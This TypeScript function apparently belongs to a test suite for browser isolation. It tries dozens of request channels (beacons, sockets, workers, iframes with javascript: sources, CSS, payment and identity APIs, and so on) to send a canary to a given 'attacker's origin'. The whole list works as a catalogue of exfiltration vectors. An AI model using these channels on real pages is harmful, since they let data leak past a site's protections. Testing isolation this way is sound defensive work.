/**
 * Runs in a page: tries each interface of a browser that can send a request, with the canary in its address. Returns
 * their number. All requests of an attempt that is not refused have been started by then.
 *
 * @param given The attacker's origin, and the canary.
 */
export async function tryInterfaces([to, canary]: readonly [string, string]): Promise<number> {
  const url = `${to}/${canary}`
  // Of Chromium only.
  const more = globalThis as unknown as {
    CSS: { paintWorklet?: Worklet }
    WebTransport: new (url: string) => { ready: Promise<unknown> }
    WebSocketStream: new (url: string) => { opened: Promise<unknown> }
    PresentationRequest: new (url: string) => { getAvailability(): Promise<unknown> }
    fetchLater(url: string, options: object): unknown
  }
  const attempts: Record<string, () => unknown> = {
    fetch: () => fetch(url, { mode: 'no-cors' }),
    keepalive: () => fetch(url, { method: 'POST', keepalive: true, mode: 'no-cors', body: canary }),
    request: () => {
      const request = new XMLHttpRequest()
      request.open('POST', url)
      request.send(canary)
    },
    beacon: () => navigator.sendBeacon(url, canary),
    socket: () => new WebSocket(url.replace('http', 'ws')),
    events: () => new EventSource(url),
    worker: () => new Worker(url),
    'worker of text': () =>
      new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`], { type: 'text/javascript' }))),
    'service worker': () => navigator.serviceWorker.register(url),
    module: () => import(/* @vite-ignore */ url),
    font: () => new FontFace('x', `url(${url})`).load(),
    form: () => {
      const form = Object.assign(document.createElement('form'), { action: url, method: 'post' })
      document.body.append(form)
      form.submit()
    },
    style: () => document.body.style.setProperty('background-image', `url(${url})`),
    base: () => document.head.append(Object.assign(document.createElement('base'), { href: to })),
    'shared worker': () => new SharedWorker(url),
    'shared worker of text': () =>
      new SharedWorker(`data:text/javascript,${encodeURIComponent(`importScripts('${url}')`)}`),
    'audio worklet': () => new AudioContext().audioWorklet.addModule(url),
    'paint worklet': () => more.CSS.paintWorklet?.addModule(url),
    transport: () => new more.WebTransport(url.replace('http', 'https')).ready,
    'socket stream': () => new more.WebSocketStream(url.replace('http', 'ws')).opened,
    'fetch later': () => more.fetchLater(url, { method: 'POST', body: canary }),
    'style sheet': () => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`* { cursor: url(${url}), auto; border-image: url(${url}) 1 }`)
      document.adoptedStyleSheets.push(sheet)
    },
    'import in a style sheet': () => new CSSStyleSheet().replace(`@import '${url}'`),
    'artwork of media': () =>
      (navigator.mediaSession.metadata = new MediaMetadata({ artwork: [{ src: url }] })),
    notification: () => new Notification(canary, { icon: url }),
    payment: () =>
      new PaymentRequest([{ supportedMethods: url }], {
        total: { label: canary, amount: { currency: 'EUR', value: '1' } },
      }).canMakePayment(),
    'sign-in of another site': () =>
      navigator.credentials.get({
        identity: { providers: [{ configURL: url, clientId: canary }] },
      } as CredentialRequestOptions),
    presentation: () => new more.PresentationRequest(url).getAvailability(),
    'protocol handler': () => navigator.registerProtocolHandler('mailto', `${url}?%s`),
    wasm: () => WebAssembly.compileStreaming(fetch(url)),
    'speculation rules': () => {
      const script = Object.assign(document.createElement('script'), { type: 'speculationrules' })
      script.textContent = JSON.stringify({ prefetch: [{ urls: [url] }], prerender: [{ urls: [url] }] })
      document.head.append(script)
    },
    'import map': () => {
      const script = Object.assign(document.createElement('script'), { type: 'importmap' })
      script.textContent = JSON.stringify({ imports: { canary: url } })
      document.head.append(script)
      return import(/* @vite-ignore */ 'canary'.slice())
    },
    'XSL style sheet': () => {
      const xml = `<?xml-stylesheet type="text/xsl" href="${url}"?><a/>`
      return new DOMParser().parseFromString(xml, 'text/xml')
    },
    'empty frame': () => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const inner = frame.contentWindow as unknown as typeof globalThis
      inner.navigator.sendBeacon(url, canary)
      new inner.Image().src = url
      void inner.fetch(url, { mode: 'no-cors' }).catch(() => undefined)
      return new inner.WebSocket(url.replace('http', 'ws'))
    },
    ...Object.fromEntries(
      [
        ['srcdoc', `<img src="${url}"><script>fetch('${url}')</script>`],
        ['src', `javascript:fetch('${url}')`],
        ['src', `data:text/html,<img src="${url}"><script>fetch('${url}')</script>`],
        ['src', URL.createObjectURL(new Blob([`<img src="${url}">`], { type: 'text/html' }))],
      ].map(([name = '', value = ''], index) => [
        `frame ${index}`,
        () => {
          const frame = document.createElement('iframe')
          frame.setAttribute(name, value)
          document.body.append(frame)
        },
      ]),
    ),
    'ping of a link': () => {
      const link = Object.assign(document.createElement('a'), { href: '#', ping: url })
      document.body.append(link)
      link.click()
    },
    picture: () => {
      const holder = document.createElement('template')
      holder.innerHTML = `<picture><source srcset="${url}"><img srcset="${url} 2x" src="data:,"></picture>
            <video poster="${url}" src="data:,"><track default src="${url}"></video>
            <input type="image" src="${url}"><img src="data:," attributionsrc="${url}">
            <svg><image href="${url}"/><use href="${url}#a"/><feImage href="${url}"/></svg>
            <table background="${url}"><td background="${url}"></table><fencedframe src="${url}"></fencedframe>
            <object type="image/svg+xml" data="${url}"></object><link rel="prerender" href="${url}">`
      document.body.append(holder.content)
    },
  }
  const elements: [string, Record<string, string>][] = [
    ['img', { src: url }],
    ['script', { src: url }],
    ['iframe', { src: url }],
    ['embed', { src: url }],
    ['object', { data: url }],
    ['video', { src: url }],
    ['audio', { src: url }],
    ['link', { rel: 'stylesheet', href: url }],
    ['link', { rel: 'prefetch', href: url }],
    ['link', { rel: 'preload', as: 'image', href: url }],
    ['link', { rel: 'modulepreload', href: url }],
    ['link', { rel: 'manifest', href: url }],
    ['link', { rel: 'icon', href: url }],
  ]
  for (const [tag, values] of elements)
    attempts[`${tag} ${values['rel'] ?? ''}`] = () => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(values)) element.setAttribute(name, value)
      document.body.append(element)
    }
  for (const attempt of Object.values(attempts)) {
    try {
      // A refused attempt may reject, or never settle.
      void Promise.resolve(attempt()).catch(() => undefined)
    } catch {
      // Refused by an exception.
    }
  }
  // A request that is allowed is made in the order of the attempts, so an own one ends after them.
  await fetch('./index.html')
  await new Promise((resolve) => requestIdleCallback(resolve))
  await fetch('./index.html')
  return Object.keys(attempts).length
}
